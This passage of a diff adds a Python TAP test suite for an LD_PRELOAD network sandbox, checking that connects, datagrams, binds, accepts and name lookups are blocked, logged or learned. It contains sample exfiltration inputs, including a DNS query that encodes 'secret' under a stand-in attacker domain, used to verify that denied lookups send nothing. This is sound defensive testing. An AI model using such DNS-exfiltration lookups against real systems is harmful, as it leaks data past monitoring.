@@ -1,0 +1,804 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: MIT
+"""TAP: the network interposers against real loopback servers.
+
+TCP and UDP servers on 127.0.0.1 and ::1 (ephemeral ports), unix stream
+servers on paths and abstract names, all run inside this script, count what
+reaches them. Children run under the preload library in each mode. Every
+enforce case checks the effect from outside (the server got nothing) and the
+event on the log; alert cases check that the call ran and was logged, record
+cases that it ran and was learned. Ends with a measurement (reported as TAP
+comments) of what the shim adds to an allowed connect().
+"""
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import urllib.request  # noqa: F401 (the child imports it; fail here first if missing)
+import http.server
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from fnguard_test import (HELPERS, LIB, PYTHON, SOURCE, Run, Tap, workdir,  # noqa: E402
+                          write_profile)
+from fnguard_test import run as run_argv  # noqa: E402
+
+
+def run(argv, **kwargs):
+    return run_argv([str(a) for a in argv], **kwargs)
+
+
+def helper(name):
+    for d in (HELPERS, os.path.join(HELPERS, "helpers")):
+        if os.path.exists(os.path.join(d, name)):
+            return os.path.join(d, name)
+    return os.path.join(HELPERS, name)
+
+
+NETOPS = helper("net-ops")
+NODE = shutil.which("node")
+if not os.path.exists(NETOPS) or not os.path.exists(LIB):
+    print(f"Bail out! not built: {NETOPS if not os.path.exists(NETOPS) else LIB}", flush=True)
+    sys.exit(1)
+tap = Tap()
+W = workdir("net-")
+ECONNREFUSED = 111
+
+
+# ---- servers ---------------------------------------------------------------
+class Server:
+    """A listener that counts what reaches it (connections or datagrams)."""
+
+    def __init__(self, family, kind, address):
+        self.sock = socket.socket(family, kind)
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.sock.bind(address)
+        if kind == socket.SOCK_STREAM:
+            self.sock.listen(64)
+        self.kind = kind
+        self.lock = threading.Lock()
+        self.hits = []
+        name = self.sock.getsockname()
+        self.port = name[1] if family in (socket.AF_INET, socket.AF_INET6) else None
+        threading.Thread(target=self.loop, daemon=True).start()
+
+    def loop(self):
+        while True:
+            try:
+                if self.kind == socket.SOCK_STREAM:
+                    c, _ = self.sock.accept()
+                    c.settimeout(0.5)
+                    try:
+                        data = c.recv(64)
+                    except OSError:
+                        data = b""
+                    c.close()
+                else:
+                    data, _ = self.sock.recvfrom(2048)
+            except OSError:
+                return
+            with self.lock:
+                self.hits.append(data)
+
+    def reset(self):
+        with self.lock:
+            self.hits = []
+
+    def count(self, wait_for=None, timeout=2.0):
+        """Hits so far; with wait_for, waits (up to timeout) until there are that many."""
+        deadline = time.monotonic() + (timeout if wait_for else 0.3)
+        while True:
+            with self.lock:
+                n = len(self.hits)
+            if (wait_for and n >= wait_for) or time.monotonic() >= deadline:
+                return n
+            time.sleep(0.02)
+
+    def data(self):
+        with self.lock:
+            return list(self.hits)
+
+
+TCP4 = Server(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))
+TCP4B = Server(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))  # a port no rule names
+TCP6 = Server(socket.AF_INET6, socket.SOCK_STREAM, ("::1", 0))
+UDP4 = Server(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
+UDP4B = Server(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
+UDP6 = Server(socket.AF_INET6, socket.SOCK_DGRAM, ("::1", 0))
+SOCKDIR = os.path.join(W, "sock")
+os.makedirs(SOCKDIR)
+UNIX_OK = Server(socket.AF_UNIX, socket.SOCK_STREAM, os.path.join(SOCKDIR, "ok.sock"))
+UNIX_NO = Server(socket.AF_UNIX, socket.SOCK_STREAM, os.path.join(SOCKDIR, "no.sock"))
+TAG = f"fnguard-test-{os.getpid()}"
+ABS_OK = Server(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{TAG}-ok")
+ABS_NO = Server(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{TAG}-no")
+ALL = [TCP4, TCP4B, TCP6, UDP4, UDP4B, UDP6, UNIX_OK, UNIX_NO, ABS_OK, ABS_NO]
+
+
+class Web(http.server.BaseHTTPRequestHandler):
+    hits = 0
+
+    def do_GET(self):
+        Web.hits += 1
+        body = b"hello from loopback\n"
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args):
+        pass
+
+
+HTTPD = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Web)
+threading.Thread(target=HTTPD.serve_forever, daemon=True).start()
+HTTP_PORT = HTTPD.server_address[1]
+
+
+def reset():
+    for s in ALL:
+        s.reset()
+    Web.hits = 0
+
+
+# ---- profiles and children ---------------------------------------------------
+def profile(network, name="p"):
+    """Everything but the network is allowed, so only network events appear."""
+    return write_profile(W, {
+        "fnguard": 1,
+        "files": [{"path": "/**", "allow": "rwcd"}],
+        "exec": [{"path": "/**"}],
+        "network": network,
+    }, f"{name}.json")
+
+
+def py(code, *args):
+    return [PYTHON, "-c", code] + [str(a) for a in args]
+
+
+# Prints "ok" or "errno=N" for a connect or sendto from Python.
+PY_CONNECT = r"""
+import socket, sys
+fam = {"4": socket.AF_INET, "6": socket.AF_INET6}[sys.argv[1]]
+kind = socket.SOCK_STREAM if sys.argv[4] == "tcp" else socket.SOCK_DGRAM
+s = socket.socket(fam, kind)
+try:
+    if sys.argv[5] == "sendto":
+        s.sendto(b"ping", (sys.argv[2], int(sys.argv[3])))
+    elif sys.argv[5] == "sendmsg":
+        s.sendmsg([b"ping"], [], 0, (sys.argv[2], int(sys.argv[3])))
+    else:
+        s.connect((sys.argv[2], int(sys.argv[3])))
+        s.send(b"ping")
+    print("ok")
+except OSError as e:
+    print(f"errno={e.errno}")
+"""
+
+# socket.create_connection: getaddrinfo, then connect.
+PY_CREATE = r"""
+import socket, sys
+try:
+    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
+    s.send(b"ping")
+    print("ok")
+except socket.gaierror as e:
+    print(f"gaierror={e.errno}")
+except OSError as e:
+    print(f"errno={e.errno}")
+"""
+
+PY_UNIX = r"""
+import socket, sys
+s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+path = sys.argv[1]
+if path.startswith("@"):
+    path = "\0" + path[1:]
+try:
+    s.connect(path)
+    s.send(b"ping")
+    print("ok")
+except OSError as e:
+    print(f"errno={e.errno}")
+"""
+
+
+def net_events(r, **want):
+    return r.find(category="network", **want)
+
+
+def only_network(r):
+    """Every network event of a run (an allowed call must produce none)."""
+    return [e for e in r.events if e.get("category") == "network"]
+
+
+def spawn(argv, prof, mode):
+    """Like run(), in the background: returns (Popen, log file)."""
+    e = {k: v for k, v in os.environ.items()
+         if not k.startswith("FNGUARD_") and k != "LD_PRELOAD"}
+    e.update({"LD_PRELOAD": LIB, "FNGUARD_PROFILE": prof, "FNGUARD_MODE": mode,
+              "FNGUARD_PROFILE_PATH": os.path.join(SOURCE, "profiles")})
+    log = tempfile.TemporaryFile()
+    os.set_inheritable(log.fileno(), True)
+    e["FNGUARD_LOG"] = f"fd:{log.fileno()}"
+    p = subprocess.Popen(argv, env=e, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                         pass_fds=(log.fileno(),), text=True)
+    return p, log
+
+
+def collect(p, log):
+    out, err = p.communicate(timeout=30)
+    log.seek(0)
+    text = log.read().decode("utf-8", "replace")
+    log.close()
+    events = []
+    for line in text.splitlines():
+        try:
+            events.append(json.loads(line))
+        except ValueError:
+            events.append({"unparsable": line})
+    return Run(p.returncode, out, err, events, text)
+
+
+def can_connect(port, host="127.0.0.1"):
+    try:
+        socket.create_connection((host, port), timeout=1).close()
+        return True
+    except OSError:
+        return False
+
+
+# ---- outbound TCP ----------------------------------------------------------
+P_TCP = profile([
+    {"cidr": "127.0.0.1", "ports": [TCP4.port], "proto": "tcp"},
+    {"cidr": "::1", "ports": [TCP6.port]},
+], "tcp")
+
+reset()
+r = run(py(PY_CONNECT, 4, "127.0.0.1", TCP4.port, "tcp", "connect"), profile=P_TCP,
+        mode="enforce")
+tap.ok(r.stdout == "ok\n" and TCP4.count(1) == 1 and not only_network(r),
+       "enforce: a connect the cidr rule allows reaches the server, no event", r.diag())
+
+reset()
+r = run(py(PY_CONNECT, 4, "127.0.0.1", TCP4B.port, "tcp", "connect"), profile=P_TCP,
+        mode="enforce")
+ev = net_events(r, type="violation", op="connect", target=f"127.0.0.1:{TCP4B.port}",
+                action="blocked")
+tap.ok(r.stdout == f"errno={ECONNREFUSED}\n", "enforce: a denied connect fails with "
+       "ECONNREFUSED", r.diag())
+tap.ok(TCP4B.count() == 0, "enforce: the server got no connection")
+tap.ok(ev and ev[0].get("access") == "tcp" and ev[0].get("mode") == "enforce" and
+       ev[0].get("rule") == "no rule allows it" and
+       ev[0].get("tip") == {"network": [{"cidr": "127.0.0.1", "ports": [TCP4B.port]}]},
+       "enforce: the violation names op, target, protocol and a tip", r.diag())
+
+reset()
+r = run(py(PY_CONNECT, 4, "127.0.0.1", TCP4B.port, "tcp", "connect"), profile=P_TCP,
+        mode="alert")
+ev = net_events(r, type="violation", op="connect", target=f"127.0.0.1:{TCP4B.port}",
+                action="logged")
+tap.ok(r.stdout == "ok\n" and TCP4B.count(1) == 1 and ev,
+       "alert: the denied connect happens and is logged", r.diag())
+
+reset()
+r = run(py(PY_CONNECT, 4, "127.0.0.1", TCP4B.port, "tcp", "connect"), profile=P_TCP,
+        mode="record")
+ev = net_events(r, type="learn", op="connect", target=f"127.0.0.1:{TCP4B.port}",
+                action="learned")
+tap.ok(r.stdout == "ok\n" and TCP4B.count(1) == 1 and ev and not r.find(type="violation"),
+       "record: the connect happens and is learned", r.diag())
+
+reset()
+r = run(py(PY_CONNECT, 6, "::1", TCP6.port, "tcp", "connect"), profile=P_TCP, mode="enforce")
+tap.ok(r.stdout == "ok\n" and TCP6.count(1) == 1 and not only_network(r),
+       "enforce: IPv6 ::1 allowed by an IPv6 cidr rule", r.diag())
+
+P_V4ONLY = profile([{"cidr": "127.0.0.1", "ports": [TCP4.port]}], "v4only")
+reset()
+r = run(py(PY_CONNECT, 6, "::1", TCP6.port, "tcp", "connect"), profile=P_V4ONLY,
+        mode="enforce")
+ev = net_events(r, type="violation", op="connect", target=f"[::1]:{TCP6.port}",
+                action="blocked")
+tap.ok(r.stdout == f"errno={ECONNREFUSED}\n" and TCP6.count() == 0 and ev and
+       ev[0]["tip"]["network"][0].get("cidr") == "::1",
+       "enforce: IPv6 ::1 denied, nothing reached the server, target in [brackets]", r.diag())
+
+# IPv4-mapped IPv6 is judged as IPv4 (a dual-stack socket reaching the IPv4 server).
+reset()
+r = run(py(PY_CONNECT, 6, "::ffff:127.0.0.1", TCP4.port, "tcp", "connect"), profile=P_V4ONLY,
+        mode="enforce")
+tap.ok(r.stdout == "ok\n" and TCP4.count(1) == 1 and not only_network(r),
+       "enforce: ::ffff:127.0.0.1 is allowed by the IPv4 rule", r.diag())
+reset()
+r = run(py(PY_CONNECT, 6, "::ffff:127.0.0.1", TCP4B.port, "tcp", "connect"),
+        profile=P_V4ONLY, mode="enforce")
+ev = net_events(r, type="violation", op="connect", target=f"127.0.0.1:{TCP4B.port}")
+tap.ok(r.stdout == f"errno={ECONNREFUSED}\n" and TCP4B.count() == 0 and ev,
+       "enforce: a denied ::ffff:127.0.0.1 is reported as the IPv4 address", r.diag())
+
+# Spellings that inet_aton accepts are addresses, judged at connect as 127.0.0.1.
+for spelling in ("127.1", "0x7f000001", "2130706433"):
+    reset()
+    r = run(py(PY_CREATE, spelling, TCP4.port), profile=P_V4ONLY, mode="enforce")
+    ok_allowed = r.stdout == "ok\n" and TCP4.count(1) == 1 and not only_network(r)
+    reset()
+    r2 = run(py(PY_CREATE, spelling, TCP4B.port), profile=P_V4ONLY, mode="enforce")
+    ev = net_events(r2, type="violation", op="connect", target=f"127.0.0.1:{TCP4B.port}")
+    tap.ok(ok_allowed and r2.stdout == f"errno={ECONNREFUSED}\n" and TCP4B.count() == 0 and ev
+           and not net_events(r2, op="getaddrinfo"),
+           f"enforce: '{spelling}' is an address, judged as 127.0.0.1 at connect",
+           r.diag() + "\n" + r2.diag())
+
+# Something after an address makes it a name for the resolver: it is judged as one.
+reset()
+r = run([NETOPS, "getaddrinfo", "127.0.0.1 exfil.example.com"], profile=P_V4ONLY,
+        mode="enforce")
+ev = net_events(r, type="violation", op="getaddrinfo", target="127.0.0.1 exfil.example.com")
+tap.ok(r.rc == 1 and "gai=EAI_FAIL" in r.stderr and ev and "tip" not in ev[0],
+       "enforce: '127.0.0.1 <name>' is a name, not resolved (and no tip proposes it)",
+       r.diag())
+
+# ---- outbound UDP ----------------------------------------------------------
+P_UDP = profile([
+    {"cidr": "127.0.0.1", "ports": [UDP4.port], "proto": "udp"},
+    {"cidr": "127.0.0.1", "ports": [UDP4B.port], "proto": "tcp"},
+    {"cidr": "::1", "ports": [UDP6.port], "proto": "udp"},
+], "udp")
+
+reset()
+r = run(py(PY_CONNECT, 4, "127.0.0.1", UDP4.port, "udp", "sendto"), profile=P_UDP,
+        mode="enforce")
+tap.ok(r.stdout == "ok\n" and UDP4.count(1) == 1 and not only_network(r),
+       "enforce: an allowed UDP sendto arrives", r.diag())
+
+reset()
+r = run(py(PY_CONNECT, 4, "127.0.0.1", UDP4B.port, "udp", "sendto"), profile=P_UDP,
+        mode="enforce")
+ev = net_events(r, type="violation", op="sendto", target=f"127.0.0.1:{UDP4B.port}",
+                action="blocked")
+tap.ok(r.stdout == f"errno={ECONNREFUSED}\n" and UDP4B.count() == 0 and ev and
+       ev[0].get("access") == "udp" and
+       ev[0].get("tip") == {"network": [{"cidr": "127.0.0.1", "ports": [UDP4B.port],
+                                         "proto": "udp"}]},
+       "enforce: UDP sendto to a tcp-only rule is denied, no datagram, tip says udp", r.diag())
+
+reset()
+r = run(py(PY_CONNECT, 6, "::1", UDP6.port, "udp", "sendmsg"), profile=P_UDP, mode="enforce")
+ok6 = r.stdout == "ok\n" and UDP6.count(1) == 1
+reset()
+r = run(py(PY_CONNECT, 4, "127.0.0.1", UDP4B.port, "udp", "sendmsg"), profile=P_UDP,
+        mode="enforce")
+ev = net_events(r, type="violation", op="sendmsg", target=f"127.0.0.1:{UDP4B.port}")
+tap.ok(ok6 and r.stdout == f"errno={ECONNREFUSED}\n" and UDP4B.count() == 0 and ev,
+       "enforce: sendmsg with a destination: allowed arrives, denied does not", r.diag())
+
+reset()
+r = run([NETOPS, "sendmmsg", "127.0.0.1", UDP4.port, "127.0.0.1", UDP4B.port], profile=P_UDP,
+        mode="enforce")
+ev = net_events(r, type="violation", op="sendmmsg", target=f"127.0.0.1:{UDP4B.port}")
+tap.ok(r.stdout == "sent 1\n" and UDP4.count(1) == 1 and UDP4B.count() == 0 and ev,
+       "enforce: sendmmsg sends the allowed message before the denied one, only that",
+       r.diag())
+reset()
+r = run([NETOPS, "sendmmsg", "127.0.0.1", UDP4B.port, "127.0.0.1", UDP4.port], profile=P_UDP,
+        mode="enforce")
+tap.ok(r.rc == 1 and "errno=ECONNREFUSED" in r.stderr and UDP4B.count() == 0 and
+       UDP4.count() == 0 and net_events(r, type="violation", op="sendmmsg"),
+       "enforce: sendmmsg whose first message is denied sends nothing", r.diag())
+
+reset()
+r = run([NETOPS, "connect", "127.0.0.1", UDP4B.port, "udp"], profile=P_UDP, mode="enforce")
+ev = net_events(r, type="violation", op="connect", target=f"127.0.0.1:{UDP4B.port}")
+tap.ok(r.rc == 1 and "errno=ECONNREFUSED" in r.stderr and UDP4B.count() == 0 and ev and
+       ev[0].get("access") == "udp", "enforce: connect of a UDP socket is judged as udp",
+       r.diag())
+
+reset()
+r = run(py(PY_CONNECT, 4, "127.0.0.1", UDP4B.port, "udp", "sendto"), profile=P_UDP,
+        mode="alert")
+tap.ok(r.stdout == "ok\n" and UDP4B.count(1) == 1 and
+       net_events(r, type="violation", op="sendto", action="logged"),
+       "alert: the denied datagram is sent and logged", r.diag())
+
+reset()
+r = run(py(PY_CONNECT, 4, "127.0.0.1", UDP4B.port, "udp", "sendto"), profile=P_UDP,
+        mode="record")
+ev = net_events(r, type="learn", op="sendto", target=f"127.0.0.1:{UDP4B.port}")
+tap.ok(r.stdout == "ok\n" and UDP4B.count(1) == 1 and ev and ev[0].get("access") == "udp",
+       "record: the datagram is sent and learned as udp", r.diag())
+
+reset()
+r = run([NETOPS, "fastopen", "127.0.0.1", TCP4B.port, "data"], profile=P_TCP, mode="enforce")
+ev = net_events(r, type="violation", op="sendto", target=f"127.0.0.1:{TCP4B.port}")
+tap.ok(r.rc == 1 and "errno=ECONNREFUSED" in r.stderr and TCP4B.count() == 0 and ev,
+       "enforce: sendto with MSG_FASTOPEN (a connect without connect) is judged", r.diag())
+reset()
+r = run([NETOPS, "fastopen", "127.0.0.1", TCP4.port, "data"], profile=P_TCP, mode="enforce")
+tap.ok(r.rc == 0 and TCP4.count(1) == 1 and not only_network(r),
+       "enforce: an allowed MSG_FASTOPEN sendto connects", r.diag())
+
+# ---- names -----------------------------------------------------------------
+P_NAME = profile([{"host": "localhost", "ports": [TCP4.port]}], "name")
+P_NONAME = profile([{"cidr": "10.0.0.0/8"}], "noname")
+
+reset()
+r = run(py(PY_CREATE, "localhost", TCP4.port), profile=P_NAME, mode="enforce")
+tap.ok(r.stdout == "ok\n" and TCP4.count(1) == 1 and not only_network(r),
+       "enforce: host rule 'localhost': resolved, and the connect to the address it gave "
+       "is allowed by name", r.diag())
+
+reset()
+r = run(py(PY_CREATE, "LocalHost", TCP4.port), profile=P_NAME, mode="enforce")
+tap.ok(r.stdout == "ok\n" and TCP4.count(1) == 1 and not only_network(r),
+       "enforce: names are matched without regard to case", r.diag())
+
+# A name allowed for one port does not open others: at resolution when the port is
+# known, at connect when it is not.
+CODE_RESOLVE_CONNECT = r"""
+import socket, sys
+socket.getaddrinfo(sys.argv[1], None, type=socket.SOCK_STREAM)
+s = socket.socket()
+try:
+    s.connect((sys.argv[2], int(sys.argv[3])))
+    s.send(b"ping")
+    print("ok")
+except OSError as e:
+    print(f"errno={e.errno}")
+"""
+reset()
+r = run(py(PY_CREATE, "localhost", TCP4B.port), profile=P_NAME, mode="enforce")
+r2 = run(py(CODE_RESOLVE_CONNECT, "localhost", "127.0.0.1", TCP4B.port), profile=P_NAME,
+         mode="enforce")
+ev = net_events(r2, type="violation", op="connect",
+                target=f"localhost:{TCP4B.port} (127.0.0.1)", action="blocked")
+tap.ok(r.stdout == f"gaierror={socket.EAI_FAIL}\n" and
+       net_events(r, type="violation", op="getaddrinfo", target=f"localhost:{TCP4B.port}") and
+       r2.stdout == f"errno={ECONNREFUSED}\n" and TCP4B.count() == 0 and ev and
+       ev[0].get("tip") == {"network": [{"host": "localhost", "ports": [TCP4B.port]}]},
+       "enforce: a name allowed for one port opens no other; the connect event names the host",
+       r.diag() + "\n" + r2.diag())
+
+# The binding is to the addresses the resolver returned, not to the whole machine.
+r = run(py(CODE_RESOLVE_CONNECT, "localhost", "127.0.0.2", TCP4.port), profile=P_NAME,
+        mode="enforce")
+tap.ok(r.stdout == f"errno={ECONNREFUSED}\n" and
+       net_events(r, type="violation", op="connect", target=f"127.0.0.2:{TCP4.port}"),
+       "enforce: an address the name did not resolve to stays denied", r.diag())
+
+reset()
+r = run(py(PY_CREATE, "localhost", TCP4.port), profile=P_NONAME, mode="enforce")
+ev = net_events(r, type="violation", op="getaddrinfo", target=f"localhost:{TCP4.port}",
+            action="blocked")
+tap.ok(r.stdout == f"gaierror={socket.EAI_FAIL}\n" and TCP4.count() == 0 and ev and
+       ev[0].get("tip") == {"network": [{"host": "localhost", "ports": [TCP4.port]}]},
+       "enforce: a name outside the profile is not resolved (EAI_FAIL), nothing connects",
+       r.diag())
+
+reset()
+r = run(py(PY_CREATE, "localhost", TCP4.port), profile=P_NONAME, mode="alert")
+tap.ok(r.stdout == "ok\n" and TCP4.count(1) == 1 and
+       net_events(r, type="violation", op="getaddrinfo", action="logged") and
+       net_events(r, type="violation", op="connect", action="logged",
+                  target=f"localhost:{TCP4.port} (127.0.0.1)"),
+       "alert: the name is resolved and connected to; both are logged by name", r.diag())
+
+reset()
+out = os.path.join(W, "learned.json")
+r = run(py(PY_CREATE, "localhost", TCP4.port), profile=P_NONAME, mode="record",
+        env={"FNGUARD_RECORD_OUT": out})
+ev = net_events(r, type="learn", op="connect", target=f"localhost:{TCP4.port} (127.0.0.1)")
+learned = []
+try:
+    with open(out) as f:
+        learned = json.load(f).get("network", [])
+except (OSError, ValueError):
+    pass
+tap.ok(r.stdout == "ok\n" and TCP4.count(1) == 1 and ev and
+       net_events(r, type="learn", op="getaddrinfo", target=f"localhost:{TCP4.port}") and
+       any(rule.get("host") == "localhost" for rule in learned) and
+       not any("cidr" in rule for rule in learned),
+       "record: a connect to a resolved address is learned as the host name",
+       r.diag() + f"\nlearned={learned}")
+
+for op in ("gethostbyname", "gethostbyname2", "gethostbyname_r", "gethostbyname2_r"):
+    r = run([NETOPS, op, "localhost"], profile=P_NONAME, mode="enforce")
+    ev = net_events(r, type="violation", op=op, target="localhost", action="blocked")
+    denied = (r.rc == 1 and "h_errno=NO_RECOVERY" in r.stderr and r.stdout == "" and ev and
+              (not op.endswith("_r") or "ret=EACCES" in r.stderr))
+    r2 = run([NETOPS, op, "localhost"], profile=P_NAME, mode="enforce")
+    tap.ok(denied and r2.rc == 0 and r2.stdout == "127.0.0.1\n" and not only_network(r2),
+           f"enforce: {op} resolves an allowed name and refuses one outside the profile",
+           r.diag() + "\n" + r2.diag())
+
+reset()
+r = run([NETOPS, "resolve-connect", "localhost", TCP4.port], profile=P_NAME, mode="enforce")
+tap.ok(r.rc == 0 and TCP4.count(1) == 1 and not only_network(r),
+       "enforce: a C program's getaddrinfo + connect is allowed by name", r.diag())
+
+
+# No query leaves the process for a name outside the profile: a fake name server
+# on 127.0.0.1:53, seen through a private /etc/resolv.conf (mount namespace).
+def dns_exfil_case():
+    try:
+        dns = Server(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 53))
+    except OSError as e:
+        return None, f"cannot bind 127.0.0.1:53: {e}"
+    resolv = os.path.join(W, "resolv.conf")
+    with open(resolv, "w") as f:
+        f.write("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
+    name = "c2VjcmV0.exfil.example.com"
+    wrap = ["unshare", "-m", "sh", "-c",
+            f"mount --bind {resolv} /etc/resolv.conf && exec \"$@\"", "sh"]
+    if subprocess.run(wrap + ["true"], capture_output=True).returncode != 0:
+        dns.sock.close()
+        return None, "no mount namespace here"
+    results = {}
+    for mode in ("enforce", "alert"):
+        dns.reset()
+        r = run(wrap + [NETOPS, "getaddrinfo", name], profile=P_NONAME, mode=mode)
+        results[mode] = (r, dns.count(1, timeout=3) if mode == "alert" else dns.count())
+    dns.sock.close()
+    return results, None
+
+
+results, why = dns_exfil_case()
+if results is None:
+    tap.ok(True, f"enforce: no DNS query leaves for a denied name # SKIP {why}")
+else:
+    (re_, n_enforce), (ra, n_alert) = results["enforce"], results["alert"]
+    tap.ok(n_alert >= 1 and n_enforce == 0 and "gai=EAI_FAIL" in re_.stderr and
+           net_events(re_, type="violation", op="getaddrinfo", action="blocked"),
+           "enforce: no DNS query leaves for a denied name (alert: the query is sent)",
+           f"enforce queries={n_enforce} alert queries={n_alert}\n" + re_.diag())
+
+# ---- unix sockets ----------------------------------------------------------
+P_UNIX = profile([
+    {"unix": SOCKDIR + "/ok*.sock"},
+    {"unix": f"@{TAG}-ok"},
+], "unix")
+
+reset()
+r = run(py(PY_UNIX, os.path.join(SOCKDIR, "ok.sock")), profile=P_UNIX, mode="enforce")
+tap.ok(r.stdout == "ok\n" and UNIX_OK.count(1) == 1 and not only_network(r),
+       "enforce: unix connect allowed by a path glob", r.diag())
+
+reset()
+r = run(py(PY_UNIX, os.path.join(SOCKDIR, "no.sock")), profile=P_UNIX, mode="enforce")
+ev = net_events(r, type="violation", op="connect", target=os.path.join(SOCKDIR, "no.sock"))
+tap.ok(r.stdout == f"errno={ECONNREFUSED}\n" and UNIX_NO.count() == 0 and ev and
+       ev[0].get("tip") == {"network": [{"unix": os.path.join(SOCKDIR, "no.sock")}]},
+       "enforce: unix connect outside the profile refused, server untouched, tip 'unix'",
+       r.diag())
+
+reset()
+r = run(py(PY_UNIX, "no.sock"), profile=P_UNIX, mode="enforce", cwd=SOCKDIR)
+ev = net_events(r, type="violation", op="connect", target=os.path.join(SOCKDIR, "no.sock"))
+r2 = run(py(PY_UNIX, "ok.sock"), profile=P_UNIX, mode="enforce", cwd=SOCKDIR)
+tap.ok(r.stdout == f"errno={ECONNREFUSED}\n" and UNIX_NO.count() == 0 and ev and
+       r2.stdout == "ok\n" and UNIX_OK.count(1) == 1,
+       "enforce: a relative unix path is judged against the cwd", r.diag() + r2.diag())
+
+reset()
+link = os.path.join(SOCKDIR, "ok-link.sock")
+os.symlink(os.path.join(SOCKDIR, "no.sock"), link)
+r = run(py(PY_UNIX, link), profile=P_UNIX, mode="enforce")
+ev = net_events(r, type="violation", op="connect", target=os.path.join(SOCKDIR, "no.sock"))
+tap.ok(r.stdout == f"errno={ECONNREFUSED}\n" and UNIX_NO.count() == 0 and ev and
+       ev[0].get("detail") == "reached through a symlink",
+       "enforce: a symlink named like an allowed socket is judged where it leads", r.diag())
+
+reset()
+r = run(py(PY_UNIX, f"@{TAG}-ok"), profile=P_UNIX, mode="enforce")
+r2 = run(py(PY_UNIX, f"@{TAG}-no"), profile=P_UNIX, mode="enforce")
+ev = net_events(r2, type="violation", op="connect", target=f"@{TAG}-no")
+tap.ok(r.stdout == "ok\n" and ABS_OK.count(1) == 1 and not only_network(r) and
+       r2.stdout == f"errno={ECONNREFUSED}\n" and ABS_NO.count() == 0 and ev,
+       "enforce: abstract sockets judged by @name", r.diag() + r2.diag())
+
+reset()
+r = run(py(PY_UNIX, os.path.join(SOCKDIR, "no.sock")), profile=P_UNIX, mode="record")
+tap.ok(r.stdout == "ok\n" and UNIX_NO.count(1) == 1 and
+       net_events(r, type="learn", op="connect", target=os.path.join(SOCKDIR, "no.sock")),
+       "record: a unix connect is learned by path", r.diag())
+
+# ---- inbound ---------------------------------------------------------------
+P_OUT = profile([{"cidr": "127.0.0.0/8"}], "out")
+P_IN = profile([{"cidr": "127.0.0.0/8", "inbound": True}], "in")
+P_BIND0 = profile([{"cidr": "127.0.0.1", "ports": [0], "inbound": True}], "bind0")
+
+PY_SERVE = r"""
+import socket, sys, time
+s = socket.socket()
+try:
+    s.bind(("127.0.0.1", int(sys.argv[1])))
+    s.listen(8)
+    print("listening", s.getsockname()[1], flush=True)
+except OSError as e:
+    print(f"errno={e.errno}", s.getsockname()[1], flush=True)
+time.sleep(1.5)
+"""
+
+
+def serve_case(prof, port):
+    """A child tries to serve; returns (first line, reachable from outside?, Run)."""
+    p, log = spawn(py(PY_SERVE, port), prof, "enforce")
+    line = p.stdout.readline().strip()
+    fields = line.split()
+    reachable = len(fields) == 2 and fields[1] != "0" and can_connect(int(fields[1]))
+    return line, reachable, collect(p, log)
+
+
+probe = socket.socket()
+probe.bind(("127.0.0.1", 0))
+FREE = probe.getsockname()[1]
+probe.close()
+
+line, reachable, r = serve_case(P_OUT, FREE)
+ev = net_events(r, type="violation", op="bind", target=f"127.0.0.1:{FREE}", action="blocked")
+tap.ok(line.startswith("errno=13") and not can_connect(FREE) and ev and
+       ev[0].get("tip") == {"network": [{"cidr": "127.0.0.1", "ports": [FREE],
+                                         "inbound": True}]},
+       "enforce: bind without an inbound rule fails with EACCES, nothing listens, "
+       "the tip says inbound", r.diag())
+
+line, reachable, r = serve_case(P_IN, FREE)
+tap.ok(line.startswith("listening") and reachable and not only_network(r),
+       "enforce: bind and listen allowed by an inbound rule; reachable from outside", r.diag())
+
+line, reachable, r = serve_case(P_BIND0, 0)
+port = line.split()[1] if len(line.split()) == 2 else "?"
+ev = net_events(r, type="violation", op="listen", target=f"127.0.0.1:{port}")
+tap.ok(line.startswith("errno=13") and port != "0" and not reachable and ev and
+       not net_events(r, op="bind"),
+       "enforce: bind to port 0 is judged as port 0; listen judges the port taken", r.diag())
+
+r = run([NETOPS, "listen", "127.0.0.1", "0"], profile=P_OUT, mode="enforce")
+tap.ok(r.rc == 1 and "errno=EACCES" in r.stderr and
+       net_events(r, type="violation", op="listen", action="blocked"),
+       "enforce: listen on a socket bound behind the shim's back is judged", r.diag())
+
+for op in ("accept", "accept4"):
+    r = run([NETOPS, op, "127.0.0.1"], profile=P_OUT, mode="enforce")
+    r2 = run([NETOPS, op, "::1"], profile=profile([{"cidr": "::1", "inbound": True}], "in6"),
+             mode="enforce")
+    tap.ok(r.rc == 1 and f"{op}: errno=ECONNABORTED" in r.stderr and
+           "peer saw close" in r.stdout and
+           net_events(r, type="violation", op=op, action="blocked") and
+           r2.rc == 0 and r2.stdout == "accepted\n" and not only_network(r2),
+           f"enforce: {op} on a listener made behind the shim's back: refused connection "
+           "is closed (ECONNABORTED); allowed by an inbound rule", r.diag() + r2.diag())
+
+r = run([NETOPS, "bind", "127.0.0.1", "0", "udp"], profile=P_OUT, mode="alert")
+tap.ok(r.rc == 0 and net_events(r, type="violation", op="bind", access="udp", action="logged"),
+       "alert: a UDP bind is logged and runs", r.diag())
+
+r = run([NETOPS, "unix-bind", os.path.join(SOCKDIR, "new.sock")], profile=P_UNIX,
+        mode="enforce")
+ev = net_events(r, type="violation", op="bind", target=os.path.join(SOCKDIR, "new.sock"))
+tap.ok(r.rc == 1 and "errno=EACCES" in r.stderr and
+       not os.path.exists(os.path.join(SOCKDIR, "new.sock")) and ev and
+       ev[0]["tip"]["network"][0].get("inbound") is True,
